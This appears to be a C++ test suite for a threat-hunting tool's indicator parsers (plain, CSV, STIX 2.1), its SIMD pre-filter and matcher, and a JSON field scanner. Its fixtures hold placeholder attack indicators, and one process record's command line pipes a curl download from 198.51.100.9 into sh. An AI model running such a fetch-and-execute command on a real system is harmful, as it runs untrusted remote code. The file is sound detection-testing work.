// vigil hunt: indicator files (plain, CSV, STIX 2.1), the matcher (pre-filter
// and exact match) and time bounds.
#include <random>

#include <catch2/catch.hpp>
#include <nlohmann/json.hpp>

#include "hunt/hunt.hpp"

using namespace vigil::hunt;
using nlohmann::json;

namespace {

IocSet parse(std::string_view text) {
  IocSet s;
  parse_iocs(text, "f", s);
  return s;
}

bool has(const IocSet& s, IocType t, std::string_view v) {
  for (const auto& i : s.iocs)
    if (i.type == t && i.value == v) return true;
  return false;
}

// Both stages, as `vigil hunt` runs them: the pre-filter must pass the line
// (no false negatives) and the exact match decides.
std::vector<Hit> hunt_line(const Matcher& m, const std::string& line) {
  if (!m.scan(line).candidate) return {};
  return m.match(json::parse(line));
}

Matcher matcher(std::string_view text) {
  auto s = parse(text);
  REQUIRE(s.errors.empty());
  return Matcher(std::move(s.iocs));
}

const std::string kHash = "cb30d69b24245bf2ecdc9e7f53bbad19159999970b6d82c0c00c7d32d9e37aa4";

}  // namespace

TEST_CASE("plain IoC list: types inferred, comments, defanged, origins", "[hunt]") {
  auto s = parse("# feed 2026-11\n" + kHash +
                 "\n203.0.113.5\n198.51.100.0/24   # c2 range\n2001:db8::/32\nevil[.]example\n"
                 "hxxps://Bad.Example.org:8443/x?y\n*.wild.example\n/tmp/.x/miner\n/dev/shm/*\n\n");
  CHECK(s.errors.empty());
  CHECK(s.iocs.size() == 9);
  CHECK(has(s, IocType::Sha256, kHash));
  CHECK(has(s, IocType::Ip, "203.0.113.5"));
  CHECK(has(s, IocType::Ip, "198.51.100.0/24"));
  CHECK(has(s, IocType::Ip, "2001:db8::/32"));
  CHECK(has(s, IocType::Domain, "evil.example"));
  CHECK(has(s, IocType::Domain, "bad.example.org"));  // URL -> its host
  CHECK(has(s, IocType::Domain, "wild.example"));
  CHECK(has(s, IocType::Path, "/tmp/.x/miner"));
  CHECK(has(s, IocType::Path, "/dev/shm/*"));
  CHECK(s.iocs[1].origin == "f:3");
}

TEST_CASE("plain IoC list: errors name the line and say why", "[hunt]") {
  auto s = parse("203.0.113.5\nnot an indicator\n10.0.0.0/33\nd41d8cd98f00b204e9800998ecf8427e\n");
  REQUIRE(s.errors.size() == 3);
  CHECK_THAT(s.errors[0], Catch::Contains("f:2: cannot tell the type of 'not an indicator'"));
  CHECK_THAT(s.errors[1], Catch::Contains("f:3:") && Catch::Contains("more than 32"));
  CHECK_THAT(s.errors[2], Catch::Contains("f:4:") && Catch::Contains("MD5"));
  CHECK(s.iocs.size() == 1);
}

TEST_CASE("CSV IoC files: header names the columns, MISP type names, errors", "[hunt]") {
  auto s = parse("uuid,type,value,comment\n"
                 "1,sha256," + kHash + ",miner\n"
                 "2,ip-dst,203.0.113.0/24,\"c2, range\"\n"
                 "3,domain,Evil.Example,\n"
                 "4,url,http://10.9.8.7/x,\n"
                 "5,filename,kworkerd,\n"
                 "6,md5,d41d8cd98f00b204e9800998ecf8427e,\n"
                 "7,email-src,a@b.c,\n"
                 "8,sha256,xyz,\n");
  CHECK(has(s, IocType::Sha256, kHash));
  CHECK(has(s, IocType::Ip, "203.0.113.0/24"));
  CHECK(has(s, IocType::Domain, "evil.example"));
  CHECK(has(s, IocType::Ip, "10.9.8.7"));
  CHECK(has(s, IocType::Path, "*/kworkerd"));
  REQUIRE(s.unsupported.size() == 2);
  CHECK_THAT(s.unsupported[0], Catch::Contains("f:7: type 'md5'"));
  CHECK_THAT(s.unsupported[1], Catch::Contains("f:8: type 'email-src'"));
  REQUIRE(s.errors.size() == 1);
  CHECK_THAT(s.errors[0], Catch::Contains("f:9:") && Catch::Contains("not a SHA-256"));

  auto untyped = parse("indicator,first_seen\n203.0.113.9,2026-01-01\n");  // no type column: inferred
  CHECK(untyped.errors.empty());
  CHECK(has(untyped, IocType::Ip, "203.0.113.9"));
}

TEST_CASE("STIX 2.1 bundle: simple patterns load, others are reported with their id", "[hunt]") {
  json bundle = {
      {"type", "bundle"},
      {"id", "bundle--1"},
      {"objects",
       {{{"type", "indicator"}, {"id", "indicator--h"}, {"pattern_type", "stix"},
         {"pattern", "[file:hashes.'SHA-256' = '" + kHash + "']"}},
        {{"type", "indicator"}, {"id", "indicator--or"}, {"pattern_type", "stix"},
         {"pattern", "[ipv4-addr:value = '198.51.100.0/24' OR ipv6-addr:value = '2001:db8::1'] OR "
                     "[domain-name:value = 'evil.example'] OR [url:value = 'https://c2.example.net/gate.php']"}},
        {{"type", "indicator"}, {"id", "indicator--subset"}, {"pattern", "[ipv4-addr:value ISSUBSET '10.66.0.0/16']"}},
        {{"type", "indicator"}, {"id", "indicator--and"}, {"pattern_type", "stix"},
         {"pattern", "[file:name = 'a' AND file:size = 3]"}},
        {{"type", "indicator"}, {"id", "indicator--within"}, {"pattern_type", "stix"},
         {"pattern", "[domain-name:value = 'x.example'] WITHIN 300 SECONDS"}},
        {{"type", "indicator"}, {"id", "indicator--proc"}, {"pattern_type", "stix"},
         {"pattern", "[process:name = 'nc']"}},
        {{"type", "indicator"}, {"id", "indicator--sigma"}, {"pattern_type", "sigma"}, {"pattern", "title: x"}},
        {{"type", "indicator"}, {"id", "indicator--gone"}, {"revoked", true},
         {"pattern", "[domain-name:value = 'revoked.example']"}},
        {{"type", "malware"}, {"id", "malware--m"}, {"name", "miner"}}}}};
  auto s = parse(bundle.dump(2));
  CHECK(s.errors.empty());
  CHECK(has(s, IocType::Sha256, kHash));
  CHECK(has(s, IocType::Ip, "198.51.100.0/24"));
  CHECK(has(s, IocType::Ip, "2001:db8::1"));
  CHECK(has(s, IocType::Domain, "evil.example"));
  CHECK(has(s, IocType::Domain, "c2.example.net"));
  CHECK(has(s, IocType::Ip, "10.66.0.0/16"));
  CHECK_FALSE(has(s, IocType::Domain, "revoked.example"));
  CHECK(s.iocs.size() == 6);
  for (const auto& i : s.iocs)
    if (i.value == "evil.example") CHECK(i.origin == "f: indicator--or");
  REQUIRE(s.unsupported.size() == 4);
  CHECK_THAT(s.unsupported[0], Catch::Contains("indicator--and") && Catch::Contains("'AND' inside an observation"));
  CHECK_THAT(s.unsupported[1], Catch::Contains("indicator--within") && Catch::Contains("WITHIN"));
  CHECK_THAT(s.unsupported[2], Catch::Contains("indicator--proc") && Catch::Contains("process:name"));
  CHECK_THAT(s.unsupported[3], Catch::Contains("indicator--sigma") && Catch::Contains("pattern_type 'sigma'"));
}

TEST_CASE("STIX: a single indicator object, and JSON errors", "[hunt]") {
  auto one = parse(R"({"type":"indicator","id":"indicator--1","pattern":"[domain-name:value = 'a.example']"})");
  CHECK(has(one, IocType::Domain, "a.example"));
  auto bad = parse("{\"type\":\"bundle\",\"objects\":[");
  REQUIRE(bad.errors.size() == 1);
  CHECK_THAT(bad.errors[0], Catch::Contains("f: not valid JSON"));
  auto bad_pattern = parse(R"({"type":"indicator","id":"indicator--2","pattern":"[domain-name:value = 'x"})");
  REQUIRE(bad_pattern.unsupported.size() == 1);
  CHECK_THAT(bad_pattern.unsupported[0], Catch::Contains("indicator--2") && Catch::Contains("unterminated"));
}

TEST_CASE("matcher: sha256 in any case, on process and file", "[hunt]") {
  std::string upper = kHash;
  for (auto& c : upper) c = char(std::toupper(c));
  auto m = matcher(upper + "\n");
  auto hits = hunt_line(m, R"({"type":"exec","process":{"pid":5,"sha256":")" + kHash + R"("}})");
  REQUIRE(hits.size() == 1);
  CHECK(hits[0].field == "process.sha256");
  CHECK(hunt_line(m, R"({"type":"openat","file":{"path":"/x","sha256":")" + upper + R"("}})").size() == 1);
  std::string other = kHash;
  other[0] = 'd';
  CHECK(hunt_line(m, R"({"process":{"sha256":")" + other + R"("}})").empty());
}

TEST_CASE("matcher: domains match themselves and subdomains, not look-alikes", "[hunt]") {
  auto m = matcher("evil.example\n");
  CHECK(hunt_line(m, R"({"dns":{"qname":"evil.example","answers":[]}})").size() == 1);
  CHECK(hunt_line(m, R"({"dns":{"qname":"Pool.EVIL.example."}})").size() == 1);  // case, trailing dot
  auto hits = hunt_line(m, R"({"network":{"remote":{"addr":"1.2.3.4"},"remote_name":"a.b.evil.example"}})");
  REQUIRE(hits.size() == 1);
  CHECK(hits[0].field == "network.remote_name");
  CHECK(hunt_line(m, R"({"dns":{"qname":"notevil.example"}})").empty());
  CHECK(hunt_line(m, R"({"dns":{"qname":"evil.example.com"}})").empty());
  CHECK(hunt_line(m, R"({"process":{"cmd_line":"ping evil.example"}})").empty());  // only the documented paths
}

TEST_CASE("matcher: IPv4 and IPv6 addresses and CIDRs", "[hunt]") {
  auto m = matcher("203.0.113.7\n198.51.100.0/22\n2001:db8:abcd::/48\n::1\n");
  auto conn = [](const std::string& addr) {
    return R"({"type":"connect","network":{"remote":{"family":2,"addr":")" + addr + R"(","port":443}}})";
  };
  CHECK(hunt_line(m, conn("203.0.113.7")).size() == 1);
  CHECK(hunt_line(m, conn("203.0.113.70")).empty());
  CHECK(hunt_line(m, conn("198.51.103.255")).size() == 1);  // last address of the /22
  CHECK(hunt_line(m, conn("198.51.104.0")).empty());
  CHECK(hunt_line(m, conn("2001:db8:abcd:12::5")).size() == 1);
  CHECK(hunt_line(m, conn("2001:DB8:ABCE::5")).empty());
  CHECK(hunt_line(m, conn("::1")).size() == 1);
  CHECK(hunt_line(m, conn("::ffff:203.0.113.7")).size() == 1);  // v4-mapped peer of a v6 socket
  auto hits = hunt_line(m, R"({"dns":{"qname":"x.example","answers":["10.0.0.1","198.51.100.9"]}})");
  REQUIRE(hits.size() == 1);
  CHECK(hits[0].field == "dns.answers[]");
  CHECK(hits[0].value == "198.51.100.9");
}

TEST_CASE("matcher: paths exact and glob, OCSF paths, the pre-filter flags process events", "[hunt]") {
  auto m = matcher("/tmp/.x/miner\n/dev/shm/*\n/tmp/*.sh\n");
  CHECK(hunt_line(m, R"({"process":{"exe":"/tmp/.x/miner"}})").size() == 1);
  CHECK(hunt_line(m, R"({"process":{"exe":"/tmp/.x/miner2"}})").empty());
  CHECK(hunt_line(m, R"({"file":{"path":"/dev/shm/a/b"}})").size() == 1);
  CHECK(hunt_line(m, R"({"file":{"path":"/tmp/x.sh"},"type":"openat"})").size() == 1);
  CHECK(hunt_line(m, R"({"file":{"path":"/tmp/x.py"}})").empty());

  auto o = matcher("203.0.113.7\n" + kHash + "\n");
  CHECK(hunt_line(o, R"({"dst_endpoint":{"ip":"203.0.113.7","port":443}})").size() == 1);
  CHECK(hunt_line(o, R"({"process":{"file":{"hashes":[{"algorithm_id":3,"value":")" + kHash + R"("}]}}})").size() == 1);

  CHECK(m.scan(R"({"type":"fork","child_pid":3})").process);
  CHECK(m.scan(R"({"process":{"pid":1},"type":"exec"})").process);
  CHECK_FALSE(m.scan(R"({"type":"openat","file":{"path":"/etc/x"}})").process);
  CHECK_FALSE(m.scan(R"({"type":"openat","file":{"path":"/etc/x"}})").candidate);
}

// The pre-filter must never miss (docs/hunt.md "Speed"): every indicator
// kind planted at random places of generated lines, so that its value starts
// and ends at every offset of the 64-byte SIMD blocks, next to escaped
// characters, at the start and end of the line, in upper case. The portable
// (non-SIMD) scan must agree with the SIMD one on every line, and on random
// byte soup full of the bytes the masks look at.
TEST_CASE("pre-filter: planted indicators of every kind are never missed; SIMD and portable scans agree",
          "[hunt][prefilter]") {
  const std::string weird = "/tmp/we\"ird\\path:";  // a path that needs escapes and ends with ':'
  auto m = matcher(kHash + "\n203.0.113.77\n198.51.100.0/24\n2001:db8::/32\nevil.example\n/tmp/.x/miner\n" +
                   "/usr/*/evil.so\n/dev/shm/*\n");
  Matcher with_weird(std::vector<Ioc>{{IocType::Path, weird, "t"}, {IocType::Sha256, kHash, "t"}});
  std::string upper = kHash;
  for (auto& c : upper) c = char(std::toupper(c));
  struct Plant {
    const char* path;  // JSON pointer
    std::string value;
  };
  const std::vector<Plant> plants = {
      {"/process/file/hashes/0/value", kHash},
      {"/actor/process/file/hashes/0/value", upper},
      {"/dst_endpoint/ip", "203.0.113.77"},
      {"/src_endpoint/ip", "198.51.100.200"},
      {"/dst_endpoint/ip", "::ffff:203.0.113.77"},
      {"/dst_endpoint/ip", "2001:db8::"},  // ends with ':'
      {"/dst_endpoint/ip", "2001:DB8:0:1::5"},
      {"/dst_endpoint/ip", "2001:0db8:0000:0000:0000:ff00:0042:8329"},  // long: its first ':' at byte 4
      {"/answers/0/rdata", "198.51.100.1"},
      {"/query/hostname", "evil.example"},
      {"/query/hostname", "a.b.EVIL.Example."},
      {"/dst_endpoint/hostname", "x.evil.example"},
      {"/file/path", "/tmp/.x/miner"},
      {"/process/file/path", "/usr/lib/x/evil.so"},
      {"/actor/process/file/path", "/dev/shm/a b"},
  };
  std::mt19937 rnd(16);
  const std::vector<std::string> soup = {"\"", "\\", ":", ",", "[", "]", "{", "}", ".", "0", "Z", " ", "\xc3\xa9", "\n"};
  auto filler = [&](size_t len) {
    std::string f;
    for (size_t k = 0; k < len; ++k) f += rnd() % 4 ? std::string(1, char('a' + rnd() % 26)) : soup[rnd() % soup.size()];
    return f;
  };
  size_t lines = 0;
  for (size_t i = 0; i < plants.size(); ++i) {
    for (size_t before = 0; before < 140; ++before) {
      json rec;
      if (before > 0) rec["activity_name"] = filler(before - 1);   // sorts first: moves the value along the block
      if (rnd() % 2) rec["~after"] = filler(rnd() % 100);           // sorts last: the value ends the line or not
      if (rnd() % 3 == 0) rec["metadata"]["event_code"] = "exec";
      rec[json::json_pointer(plants[i].path)] = plants[i].value;
      const std::string line = rec.dump();
      INFO(line);
      auto simd = m.scan(line), portable = m.scan_portable(line);
      REQUIRE(simd.candidate);
      CHECK(portable.candidate);
      CHECK(simd.process == portable.process);
      CHECK(simd.process == rec.contains("metadata"));
      CHECK(m.match(rec).size() == 1);
      rec["file"]["path"] = weird;  // escaped quote and backslash, a value ending with ':'
      const std::string line2 = rec.dump();
      CHECK(with_weird.scan(line2).candidate);
      CHECK(with_weird.scan_portable(line2).candidate);
      CHECK_FALSE(with_weird.match(rec).empty());
      ++lines;
    }
  }
  CHECK(lines == plants.size() * 140);
  // no indicator: most lines are not candidates, and both scans agree
  size_t candidates = 0;
  for (int k = 0; k < 2000; ++k) {
    json rec = {{"activity_name", filler(rnd() % 300)},
                {"dst_endpoint", {{"ip", "203.0.113." + std::to_string(rnd() % 77)}}},
                {"query", {{"hostname", filler(rnd() % 20) + ".example.org"}}}};
    const std::string line = rec.dump(), soup_line = filler(rnd() % 300);
    auto simd = m.scan(line), portable = m.scan_portable(line);
    CHECK(simd.candidate == portable.candidate);
    candidates += simd.candidate;
    CHECK(m.scan(soup_line).candidate == m.scan_portable(soup_line).candidate);
    CHECK(with_weird.scan(soup_line).candidate == with_weird.scan_portable(soup_line).candidate);
  }
  CHECK(candidates < 100);
}

TEST_CASE("time bounds: RFC 3339, dates, durations", "[hunt]") {
  int64_t t;
  REQUIRE(parse_rfc3339("2026-11-23T12:59:33.339958820Z", &t));
  CHECK(t == 1795438773339958820);
  REQUIRE(parse_rfc3339("2026-11-23T13:59:33.5+01:00", &t));
  CHECK(t == 1795438773500000000);
  REQUIRE(parse_time_bound("2026-11-23", 0, &t));
  CHECK(t == 1795392000000000000);
  REQUIRE(parse_time_bound("24h", 100'000'000'000'000, &t));
  CHECK(t == 100'000'000'000'000 - 86400'000'000'000);
  CHECK_FALSE(parse_time_bound("yesterday", 0, &t));
  CHECK_FALSE(parse_rfc3339("2026-13-01", &t));
  CHECK_FALSE(parse_rfc3339("2026-11-23T12:00", &t));
}

// The process tree's fields (TreeFields): the scanner for the JSON vigil
// writes must give exactly what nlohmann's SAX parser (the definition)
// gives, and leave everything outside its subset to it.
namespace {

const std::string kFork =
    R"({"activity_id":1,"class_uid":1007,"device":{"container":{"uid":"c0ffee"},"hostname":"ip-10-0-1-93"},)"
    R"("metadata":{"uid":"b6561280038633ff:968","version":"1.5.0"},)"
    R"("process":{"cmd_line":"sh -c curl -s http://198.51.100.9/k | sh","file":{"hashes":[{"algorithm_id":3,)"
    R"("value":"ab"}],"path":"/usr/bin/dash"},"name":"dash","parent_process":{"file":{"path":"/usr/bin/python3.11"},)"
    R"("pid":20},"pid":43,"user":{"uid":"1000"}},"time":1763463999000,"time_dt":"2026-11-18T11:06:39.805Z",)"
    R"("unmapped":{"child_pid":43,"type":"fork"},"ratio":0.25,"ok":true,"none":null,"neg":-3})";

// parse() and parse_sax() agree on `line`; returns whether parse() scanned it.
bool agree(std::string_view line) {
  TreeFields a, b;
  bool ra = a.parse(line), rb = b.parse_sax(line);
  INFO(line);
  REQUIRE(ra == rb);
  if (ra)
    for (int s = 0; s < TreeFields::kSlots; ++s) {
      INFO(TreeFields::kPaths[s]);
      CHECK(a[TreeFields::Slot(s)] == b[TreeFields::Slot(s)]);
    }
  return a.scanned();
}

}  // namespace

TEST_CASE("tree fields: vigil's records are scanned, with the values the SAX parser gives", "[hunt][treefields]") {
  TreeFields f;
  REQUIRE(f.parse(kFork));
  CHECK(f.scanned());
  using F = TreeFields;
  CHECK(f.first(F::kType, F::kTypeOcsf) == "fork");
  CHECK(f.num(F::kChild, F::kChildOcsf) == 43);
  CHECK(f.num(F::kPid) == 43);
  CHECK(f.num(F::kPpid, F::kPpidOcsf) == 20);
  CHECK(f[F::kName] == "dash");
  CHECK(f.first(F::kExe, F::kExeOcsf) == "/usr/bin/dash");  // not the parent's file.path, not the hash
  CHECK(f[F::kCmd] == "sh -c curl -s http://198.51.100.9/k | sh");
  CHECK(f[F::kMetaUid] == "b6561280038633ff:968");
  CHECK(f[F::kHostOcsf] == "ip-10-0-1-93");
  CHECK(f[F::kContainerOcsf] == "c0ffee");
  CHECK(agree(kFork));

  // the former layout, spaces between tokens, keys in any order
  CHECK(agree(R"( { "type" : "exec", "process" : { "ppid" : 7, "exe" : "/bin/x", "pid" : 9 } , "id" : "s:1" } )"));
  json j = json::parse(kFork);
  std::mt19937 rnd(16);
  for (int k = 0; k < 50; ++k) {  // reordered keys: the same values
    std::vector<std::pair<std::string, json>> items;
    for (const auto& [key, v] : j.items()) items.emplace_back(key, v);
    std::shuffle(items.begin(), items.end(), rnd);
    std::string line = "{";
    for (const auto& [key, v] : items) line += json(key).dump() + ":" + v.dump() + ",";
    line.back() = '}';
    CHECK(agree(line));
    TreeFields g;
    REQUIRE(g.parse(line));
    CHECK(g.num(F::kPpid, F::kPpidOcsf) == 20);
  }
  // missing fields are empty
  REQUIRE(f.parse(R"({"unmapped":{"type":"exec"}})"));
  CHECK(f.scanned());
  CHECK(f[F::kCmd].empty());
  CHECK(f.num(F::kPid) == 0);
  // values of other types, objects and arrays where a slot's string is expected, repeated keys
  CHECK(agree(R"({"process":{"pid":1.5,"name":true,"exe":null,"cmd_line":["a"],"file":{"path":{"x":"y"}}}})"));
  CHECK(agree(R"({"process":{"pid":1,"name":"a"},"process":{"pid":2},"type":"fork","type":"exec"})"));
  CHECK(agree(R"({"x":[{"process":{"pid":5}},[1,[2,{}]],"s",0,-0.5,1.25],"process":{"pid":0}})"));
  CHECK(agree(R"({"process":{"pid":123456789012345678}})"));
}

TEST_CASE("tree fields: escapes, non-ASCII, odd numbers and keys go to the SAX parser", "[hunt][treefields]") {
  using F = TreeFields;
  TreeFields f;
  // escaped quotes and backslashes, \u escapes
  REQUIRE(f.parse(R"({"process":{"cmd_line":"sh -c \"echo \\\"hi\\\"\"","pid":3},"type":"exec"})"));
  CHECK_FALSE(f.scanned());
  CHECK(f[F::kCmd] == R"(sh -c "echo \"hi\"")");
  CHECK(f.num(F::kPid) == 3);
  REQUIRE(f.parse(R"({"process":{"name":"\u0041b\u00e9\ud83d\ude00"},"type":"exec"})"));
  CHECK_FALSE(f.scanned());
  CHECK(f[F::kName] == "Ab\xc3\xa9\xf0\x9f\x98\x80");
  REQUIRE(f.parse("{\"process\":{\"name\":\"caf\xc3\xa9\"}}"));  // UTF-8 as is
  CHECK_FALSE(f.scanned());
  CHECK(f[F::kName] == "caf\xc3\xa9");
  CHECK_FALSE(f.parse("{\"process\":{\"name\":\"caf\xe9\"}}"));  // not UTF-8
  CHECK_FALSE(f.parse("{\"process\":{\"name\":\"a\tb\"}}"));     // a raw control character
  // a key with a '.' or an empty key joins a path in the definition
  CHECK_FALSE(agree(R"({"process.pid":5,"type":"exec"})"));
  CHECK_FALSE(agree(R"({"":{"process":{"pid":5}},"type":"exec"})"));
  CHECK(agree(R"({"other":{"process.pid":5,"":1},"type":"exec"})"));  // not on a path: scanned
  // negative, exponent and huge numbers in a slot
  CHECK_FALSE(agree(R"({"process":{"pid":-5}})"));
  CHECK_FALSE(agree(R"({"process":{"pid":-0}})"));
  CHECK_FALSE(agree(R"({"process":{"pid":5e2}})"));
  CHECK_FALSE(agree(R"({"process":{"pid":123456789012345678901234}})"));
  CHECK(agree(R"({"process":{"pid":-5.5}})"));
  CHECK(agree(R"({"x":-7,"y":[-1,-0,0.5]})"));
}

TEST_CASE("tree fields: truncated and damaged lines agree with the SAX parser", "[hunt][treefields]") {
  size_t scanned = 0;
  for (size_t n = 0; n < kFork.size(); ++n) CHECK_FALSE(agree(std::string_view(kFork).substr(0, n)));
  std::mt19937 rnd(7);
  const std::string bytes = "{}[]:,\"\\ 0-.e1atrfnul\x01\xc3\xa9x";
  for (int k = 0; k < 20000; ++k) {  // one to three bytes changed, inserted or removed
    std::string line = kFork;
    for (int e = 0, edits = 1 + int(rnd() % 3); e < edits; ++e) {
      size_t at = rnd() % line.size();
      char c = bytes[rnd() % bytes.size()];
      switch (rnd() % 3) {
        case 0: line[at] = c; break;
        case 1: line.insert(line.begin() + long(at), c); break;
        default: line.erase(at, 1);
      }
    }
    scanned += agree(line);
  }
  CHECK(scanned > 1000);  // many damaged lines are still valid JSON inside the subset
}
